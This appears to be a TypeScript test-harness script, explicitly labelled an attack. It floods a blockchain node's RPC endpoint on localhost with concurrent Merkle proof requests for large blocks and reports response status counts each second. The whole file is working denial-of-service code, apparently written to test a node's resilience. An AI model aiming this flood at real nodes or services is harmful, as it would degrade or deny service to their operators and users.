/**
 * Attack: proof-request flood. `node proofFlood.js PORTS HEIGHTS:COUNTS CONCURRENCY` sends `GET
 * /v1/blocks/H/proof/I` from ATTACKER_HOST to every listed RPC port on 127.0.0.1 (comma-separated), as fast as the
 * answers come back: CONCURRENCY requests in flight per port on keep-alive connections, H drawn from the given
 * large blocks (`height:txCount,...`) and I from that block's transactions. Once a second it prints
 * `{"sent", "answers": {status: count}}`; it runs until SIGTERM.
 */
import { Agent, request } from "node:http";
import { ATTACKER_HOST } from "../support.js";

const [portsArg, blocksArg, concArg] = process.argv.slice(2);
const ports = (portsArg ?? "").split(",").map(Number);
const blocks = (blocksArg ?? "").split(",").map((b) => b.split(":").map(Number) as [number, number]);
const concurrency = Number(concArg ?? 16);
const answers: Record<string, number> = {};
let sent = 0;
let stopping = false;
const agent = new Agent({ keepAlive: true, maxSockets: concurrency, localAddress: ATTACKER_HOST });

function fire(port: number): void {
  if (stopping) return;
  const [height, txs] = blocks[Math.floor(Math.random() * blocks.length)]!;
  const index = Math.floor(Math.random() * txs);
  sent++;
  const req = request({ host: "127.0.0.1", port, path: `/v1/blocks/${height}/proof/${index}`, agent }, (res) => {
    const k = String(res.statusCode);
    answers[k] = (answers[k] ?? 0) + 1;
    res.resume();
    res.on("end", () => fire(port));
  });
  req.on("error", () => {
    answers["error"] = (answers["error"] ?? 0) + 1;
    setTimeout(() => fire(port), 50);
  });
  req.end();
}

for (const port of ports) for (let i = 0; i < concurrency; i++) fire(port);
const report = setInterval(() => process.stdout.write(`${JSON.stringify({ sent, answers })}\n`), 1000);
process.on("SIGTERM", () => {
  stopping = true;
  clearInterval(report);
  agent.destroy();
  process.exit(0);
});
